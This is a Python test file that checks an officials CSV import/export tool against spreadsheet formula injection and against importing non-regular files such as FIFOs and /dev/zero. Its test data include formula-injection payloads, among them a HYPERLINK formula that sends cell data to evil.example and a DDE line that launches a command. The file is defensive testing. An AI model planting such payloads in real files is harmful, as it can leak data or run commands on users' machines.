"""The officials CSV from the command line, as real processes on real files (issue 20, points 2
and 8): an export no spreadsheet runs as formulas that imports back unchanged, and import files
that are not files (a FIFO, /dev/zero) refused at once."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

TIMEOUT = 60  # seconds; each command takes about one on a loaded 2-core machine
MEMORY = 2 << 30  # address space of a child: reading /dev/zero to the end would pass it
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",  # the tab goes with the whitespace: "=1+2" is left
    "\r=1+2",
]


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def run(data: Path, *args: str, timeout: float = TIMEOUT) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "editor_app", "--data-dir", str(data), *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "EDITOR_APP_LANG": "vi"},
        preexec_fn=_limit_memory,
    )


def _hostile_csv(path: Path) -> None:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["full_name", "titles", "organization", "aliases"])
    for i, name in enumerate(HOSTILE_NAMES):
        writer.writerow([name, f"{name}; Bí thư Tỉnh ủy", f"{name} {i}", f"{name}; Huy {i}"])
    writer.writerow(["Dương Đức Huy", "Trưởng Ban Tuyên giáo Tỉnh ủy", "Tỉnh ủy Lào Cai", ""])
    path.write_text(out.getvalue(), encoding="utf-8")


def _listed(data: Path) -> list[dict[str, object]]:
    done = run(data, "officials", "list", "--json")
    assert done.returncode == 0, done.stderr
    listed: list[dict[str, object]] = json.loads(done.stdout)
    return sorted(listed, key=lambda o: str(o["id"]))


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_export_writes_no_formula_and_imports_back_unchanged(
    tmp_path: Path, delimiter: str
) -> None:
    source = tmp_path / "it.csv"
    _hostile_csv(source)
    data = tmp_path / "data"
    done = run(data, "officials", "import", str(source))
    assert done.returncode == 0, done.stderr
    names = {o["full_name"] for o in _listed(data)}
    assert "=cmd|' /C calc'!A0" in names and "=1+2" in names  # kept as written

    exported = tmp_path / "export.csv"
    done = run(data, "officials", "export", str(exported), "--delimiter", delimiter)
    assert done.returncode == 0, done.stderr
    with exported.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=delimiter))
    assert len(rows) == len(HOSTILE_NAMES) + 2
    for row in rows:
        assert len(row) == 6
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
    marked = {row[0] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in marked and "'=1+2" in marked and "'@SUM(1,2)" in marked
    assert "Dương Đức Huy" in marked  # nothing else is touched

    elsewhere = tmp_path / "elsewhere"
    done = run(elsewhere, "officials", "import", str(exported))
    assert done.returncode == 0, done.stderr
    assert _listed(elsewhere) == _listed(data)


def _fifo(tmp: Path) -> Path:
    path = tmp / "officials.csv"
    os.mkfifo(path)
    return path


def _big(tmp: Path, size: int) -> Path:
    path = tmp / "big.csv"
    with path.open("wb") as f:
        f.write(b"full_name,titles\n")
        f.truncate(size)  # sparse: no disk written
    return path


@pytest.mark.parametrize(
    ("command", "make", "reason"),
    [
        ("officials", _fifo, "ống dẫn (FIFO)"),
        ("officials", lambda t: Path("/dev/zero"), "thiết bị"),
        ("officials", lambda t: t, "thư mục"),
        ("officials", lambda t: _big(t, (50 << 20) + 1), "tệp quá lớn"),
        ("sections", _fifo, "ống dẫn (FIFO)"),
        ("sections", lambda t: Path("/dev/zero"), "thiết bị"),
        ("sections", lambda t: _big(t, (1 << 20) + 1), "tối đa 1 MB"),
    ],
    ids=[
        "officials-fifo",
        "officials-dev-zero",
        "officials-folder",
        "officials-over-50-MB",
        "sections-fifo",
        "sections-dev-zero",
        "sections-over-1-MB",
    ],
)
def test_import_of_what_is_not_a_regular_file_is_refused_at_once(
    tmp_path: Path, command: str, make: Callable[[Path], Path], reason: str
) -> None:
    target = make(tmp_path)
    # The old code blocked on the FIFO for ever and read /dev/zero until memory ran out.
    done = run(tmp_path / "data", command, "import", str(target), timeout=20)
    assert done.returncode == 1, done.stderr
    message = done.stderr.strip()
    assert message.count("\n") == 0  # one line, no traceback
    assert f"Không đọc được tệp {target}: " in message and reason in message
    assert "lỗi không mong đợi" not in message
